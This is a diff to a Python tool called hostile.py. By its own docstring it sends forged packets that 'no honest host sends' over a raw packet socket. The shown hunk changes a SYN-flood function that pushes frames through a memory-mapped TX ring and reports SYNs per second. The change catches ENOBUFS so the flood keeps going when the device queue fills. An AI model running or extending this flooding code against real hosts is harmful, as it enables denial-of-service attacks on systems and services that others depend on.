@@ -1,6 +1,7 @@
 """Packets that no honest host sends, by packet socket on `eth0`: `hostile.py ATTACK ARGUMENTS`, which prints how many.
 The home that it runs in lends it the network; what it claims to be is in the packets."""
 
+import errno
 import mmap
 import os
 import random
@@ -124,7 +125,12 @@ def flood(target, port, seconds):
     while time.monotonic() < start + float(seconds):
         view = status[at * words : (at + 2048) * words : words]
         view[:] = wanted[: len(view)]
-        ring.send(b"")
+        try:
+            ring.send(b"")
+        except OSError as error:
+            # The device's queue is full: the rest of the frames go with the next.
+            if error.errno != errno.ENOBUFS:
+                raise
         sent += len(view)
         at = (at + 2048) % count
     print(f"{sent / (time.monotonic() - start):.0f} SYNs per second")
